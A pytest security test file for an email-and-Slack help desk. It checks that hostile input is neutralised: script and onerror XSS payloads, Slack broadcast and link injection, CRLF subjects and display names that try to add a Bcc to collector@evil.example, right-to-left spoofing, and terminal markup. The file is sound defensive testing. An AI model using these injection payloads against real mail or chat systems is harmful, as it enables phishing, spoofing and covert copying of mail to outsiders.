"""Hostile text by raw mail through the real CLI, read where the desk shows it: the owner's Slack
DM and email notice, the owner's digest (Slack, HTML and text mail), the agent's ticket view
and the reply's headers. Markup arrives as characters, codes masked however written, no header
or recipient added, and nothing reorders what an agent reads."""

import json
import re
import threading
from collections.abc import Iterator
from email.message import EmailMessage
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from sqlalchemy import select
from sqlalchemy.orm import Session

from bot.store.models import Message, Ticket
from tests.security.conftest import PRIYA, Mailroom, app_yaml, mail
from tests.slack.conftest import SlackClient
from tests.slack.fake_slack import FakeSlack, render_text

ANANYA_DM = "D05ANANYA"  # the owner of vouchers in India: Priya's tickets go to her
ANANYA_MAIL = "ananya.iyer@desk.example.org"
LIVE_SLACK = re.compile(r"<[!@#]|<https?:|<mailto:")
BROADCAST = re.compile(r"(?<![\w\u2060])@(?:channel|here|everyone)\b")
LIVE_HTML = re.compile(r"<script|<img src=x|onerror=\"|<a href=\"https://evil", re.IGNORECASE)
BIDI_CONTROLS = re.compile("[\u202a-\u202e\u2066-\u2069]")
MALLORY = "mallory@evil.example"
VOUCHER = "own voucher for 71-622 never came. MCP ID 4012345. I took 71-621 and 71-622."


@pytest.fixture
def slack_desk(desk: Mailroom, fake_slack: FakeSlack) -> Mailroom:
    """The mail desk, its worker also delivering to Slack (the stand-in Web API)."""
    desk.env |= {"SLACK_BOT_TOKEN": "xoxb-test", "SLACK_API_URL": fake_slack.api_url}
    return desk


def slack_texts(fake: FakeSlack, channel: str) -> list[str]:
    """Every mrkdwn string Slack would parse in what was posted to `channel`."""
    found = []
    for call in fake.called("chat.postMessage"):
        if call.args.get("channel") != channel:
            continue
        found.append(str(call.args.get("text", "")))
        blocks = call.args.get("blocks") or []
        blocks = json.loads(blocks) if isinstance(blocks, str) else blocks
        for block in blocks:
            for obj in [block.get("text") or {}, *block.get("elements", [])]:
                if isinstance(obj, dict) and obj.get("type") in ("mrkdwn", "plain_text"):
                    found.append(obj["text"])
    assert found, f"nothing posted to {channel}"
    return found


def mail_parts(messages: list[EmailMessage]) -> list[tuple[str, str]]:
    return [
        (part.get_content_type(), part.get_content())
        for message in messages
        for part in message.walk()
        if part.get_content_maintype() == "text"
    ]


def digest_for_ananya(desk: Mailroom) -> None:
    ran = desk.cli("digest", "--owner", "ananya", "--send")
    assert ran.code == 0, ran.err
    desk.deliver()


SUBJECT_MARKUP = (
    '<script>alert(1)</script> <img src=x onerror="alert(2)"> <!channel> <!here> <@U01MARIA> '
    '<https://evil.example/login|click to verify> @everyone <a href="https://evil.example">x</a>'
)


def test_markup_in_a_subject_and_body_reaches_every_reader_as_text(
    slack_desk: Mailroom, fake_slack: FakeSlack, slack: SlackClient, db: Session
) -> None:
    body = f"My {VOUCHER} The site says: <!channel> <script>alert(3)</script>"
    [hers] = slack_desk.take(mail(PRIYA, body, msgid="m1@example.in", subject=SUBJECT_MARKUP))[
        "ticket_ids"
    ]
    slack_desk.deliver()
    digest_for_ananya(slack_desk)
    slack.command(f"ticket TRI-{hers}", user="U05ANANYA")
    [view] = fake_slack.wait_for("response_url")

    texts = slack_texts(fake_slack, ANANYA_DM)
    for text in [*texts, json.dumps(view.args)]:
        assert not LIVE_SLACK.search(text), text
        assert not BROADCAST.search(text), text
    shown = "\n".join(render_text(c.args) for c in fake_slack.called("chat.postMessage"))
    assert "<!channel> <!here>" in shown  # readable, as written
    for kind, text in mail_parts(slack_desk.to(ANANYA_MAIL)):
        if kind == "text/html":
            assert not LIVE_HTML.search(text), text
            assert "&lt;script&gt;alert(1)&lt;/script&gt;" in text


CODES = [
    "in26-9f3d-7q2k",
    "IN26 9F3D 7Q2K",
    "IN26\u20139F3D\u20137Q2K",  # en dashes
    "IN26\u00a09F3D\u00a07Q2K",  # no-break spaces
    "IN26\u200b9F3D\u200b7Q2K",  # zero-width spaces
    "\uff29\uff2e\uff12\uff16\uff0d\uff19\uff26\uff13\uff24\uff0d\uff17\uff31\uff12\uff2b",
]


@pytest.mark.parametrize("code", CODES)
def test_a_code_however_written_is_masked_wherever_the_subject_is_shown(
    slack_desk: Mailroom, fake_slack: FakeSlack, code: str
) -> None:
    slack_desk.take(mail(PRIYA, f"My {VOUCHER}", msgid="c1@example.in", subject=f"Code {code}"))
    slack_desk.deliver()
    digest_for_ananya(slack_desk)
    readers = [*slack_texts(fake_slack, ANANYA_DM)]
    readers += [text for _, text in mail_parts(slack_desk.to(ANANYA_MAIL))]
    for text in readers:
        plain = re.sub(r"[\W_]", "", text.upper()).translate(
            {ord(c): ord(c) - 0xFEE0 for c in map(chr, range(0xFF01, 0xFF5F))}
        )
        assert "9F3D" not in plain, text


@pytest.mark.parametrize(
    "subject",
    [
        "=?utf-8?q?Hello=0D=0ABcc=3A_collector=40evil=2Eexample?=",
        "=?utf-8?b?SGVsbG8NCkJjYzogY29sbGVjdG9yQGV2aWwuZXhhbXBsZQ==?=",
        "Hello\r\n Bcc: collector@evil.example",  # a folded line: one header
    ],
)
def test_a_line_break_in_a_subject_adds_no_header_to_the_reply(
    desk: Mailroom, subject: str
) -> None:
    desk.take(mail(PRIYA, f"My {VOUCHER}", msgid="h1@example.in", subject=subject))
    desk.deliver()
    for message, (_, rcpts) in zip(desk.sink.messages, desk.sink.envelopes, strict=True):
        assert "collector@evil.example" not in rcpts
        assert message["Bcc"] is None and message["Cc"] is None
    [reply] = desk.to(PRIYA)
    assert "\n" not in reply["Subject"] and "\r" not in reply["Subject"]


@pytest.mark.parametrize(
    "sender",
    [
        "=?utf-8?q?Priya=0D=0ABcc=3A_collector=40evil=2Eexample?= <priya.raman@example.in>",
        '"Priya\\r\\nBcc: collector@evil.example" <priya.raman@example.in>',
    ],
)
def test_a_line_break_in_a_display_name_adds_no_header_or_recipient(
    desk: Mailroom, sender: str
) -> None:
    result = desk.take(mail(sender, f"My {VOUCHER}", msgid="h2@example.in"))
    desk.deliver()
    assert result["sender"] in (PRIYA, None)  # her address, or none at all: never another
    assert all(rcpts == [PRIYA] or rcpts[0].endswith("@desk.example.org")
               for _, rcpts in desk.sink.envelopes)  # fmt: skip
    assert all(m["Bcc"] is None for m in desk.sink.messages)


def test_right_to_left_overrides_cannot_reorder_what_an_agent_reads(
    slack_desk: Mailroom, fake_slack: FakeSlack, slack: SlackClient
) -> None:
    """`\u202e` shows the rest of a line backwards: a subject ending in one could show the agent a
    made-up "Candidate: MCP 4012345 (verified)" after it. Direction controls a candidate wrote
    are shown as visible marks, never obeyed."""
    spoof = "Voucher \u202e)deifirev( 5432104 PCM :etadidnaC \u2066x\u2069 \u202dy"
    [hers] = slack_desk.take(mail(PRIYA, f"My {VOUCHER}", msgid="r1@example.in", subject=spoof))[
        "ticket_ids"
    ]
    slack_desk.deliver()
    digest_for_ananya(slack_desk)
    slack.command(f"ticket TRI-{hers}", user="U05ANANYA")
    [view] = fake_slack.wait_for("response_url")
    readers = [*slack_texts(fake_slack, ANANYA_DM), render_text(view.args)]
    readers += [text for _, text in mail_parts(slack_desk.to(ANANYA_MAIL))]
    for text in readers:
        assert not BIDI_CONTROLS.search(text), ascii(text)


def test_a_five_megabyte_message_with_nul_bytes_is_taken_in_once_and_answered(
    desk: Mailroom, db: Session
) -> None:
    filler = ("voucher 71-622 " * 70 + "\r\n") * 5000  # about 5 MB
    raw = mail(PRIYA, f"My {VOUCHER}\r\n{filler}", msgid="big@example.in", subject="Big\x00one")
    raw = raw.replace(b"My own", b"My\x00own")
    assert len(raw) > 5_000_000
    first = desk.take(raw)
    again = desk.take(raw)
    desk.deliver()
    assert first["status"] == "stored" and again["status"] == "duplicate"
    assert first["ticket_ids"]
    [reply] = desk.to(PRIYA)
    assert "\x00" not in reply.as_string()
    stored = db.scalar(select(Message).where(Message.external_id == "<big@example.in>"))
    assert stored is not None and "\x00" not in (stored.subject or "") + stored.body
    ticket = db.get(Ticket, first["ticket_ids"][0])
    assert ticket is not None and "\x00" not in (ticket.subject or "")


def test_a_message_naming_a_hundred_thousand_references_is_taken_in_not_stuck(
    desk: Mailroom, db: Session
) -> None:
    """Threading looks up every Message-ID a mail names: 130,000 of them (2.6 MB of References)
    passed the database's limit on query parameters (SQLite's 250,000, PostgreSQL's 65,535 at a
    quarter of that), failing the intake with a traceback each time the mailbox was polled."""
    references = " ".join(f"<r{n}@x.example>" for n in range(130_000))
    raw = mail(
        PRIYA, f"My {VOUCHER}", msgid="refs@example.in",
        headers=f"References: {references}\r\nIn-Reply-To: <r129999@x.example>\r\n",
    )  # fmt: skip
    result = desk.take(raw)
    desk.deliver()
    assert result["status"] == "stored" and result["ticket_ids"]
    [reply] = desk.to(PRIYA)
    assert len(str(reply["References"])) < 10_000
    assert reply["In-Reply-To"] == "<refs@example.in>"


class RecordsApi:
    """The program's records API on loopback: knows nobody, counts what it is asked."""

    def __init__(self) -> None:
        self.asked: list[str] = []
        api = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                api.asked.append(self.path)
                self.send_response(404)
                self.send_header("Content-Length", "0")
                self.end_headers()

            def log_message(self, *_: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server.server_address[1]}"


@pytest.fixture
def records_api() -> Iterator[RecordsApi]:
    api = RecordsApi()
    api.thread.start()
    yield api
    api.server.shutdown()
    api.server.server_close()


def test_a_message_naming_thousands_of_mcp_ids_costs_a_handful_of_lookups(
    desk: Mailroom, records_api: RecordsApi, tmp_path: Path
) -> None:
    """Each MCP ID a message names was looked up: one mail naming 20,000 made 20,000 requests to
    the program's records API (a 5 MB mail, hundreds of thousands)."""
    http = {"base_url": records_api.url, "retries": 0, "cache_seconds": 0}
    desk.env["TRIAGE_CONFIG"] = str(app_yaml(tmp_path, section="records", source="http", http=http))
    ids = " ".join(f"MCP {4_000_000 + n}" for n in range(20_000))
    result = desk.take(mail(MALLORY, f"Where are the vouchers of {ids}?", msgid="many@x"))
    assert result["status"] == "stored" and result["ticket_ids"]
    assert len(records_api.asked) <= 10


MARKUP = "[/bold] [link=https://evil.example/login]sign in[/link] [blink]x"


def test_console_markup_in_what_outsiders_wrote_is_printed_as_text_by_the_cli(
    desk: Mailroom, db: Session
) -> None:
    """The command line prints with Rich, which reads `[bold]`-like tags: a subject, a bounced
    address or a mail server's refusal holding `[/bold]` stopped `triage ingest` (after the
    message was stored: an MTA piping to `ingest stdin` took it as failed) and `tickets show`
    with a traceback; `[link=…]` made a live link in the operator's terminal."""
    desk.sink.refuse_with = f"550 5.1.1 {MARKUP}"
    raw = mail(MALLORY, "Where is my voucher?", msgid="mk@evil.example", subject=MARKUP)
    ran = desk.cli("ingest", "eml", desk.file(raw))
    assert ran.code == 0, ran.err
    assert "[/bold]" in ran.out and "1 stored" in ran.out
    desk.deliver()
    ticket = db.scalar(select(Ticket))
    assert ticket is not None
    for args in (["tickets", "show", str(ticket.id)], ["tickets", "list"]):
        shown = desk.cli(*args)
        assert shown.code == 0, shown.err
        assert "Traceback" not in shown.err
    shown = desk.cli("tickets", "show", str(ticket.id))
    assert "[/bold]" in shown.out  # the refusal, as the mail server wrote it
    assert "\x1b]8;" not in shown.out  # no terminal hyperlink
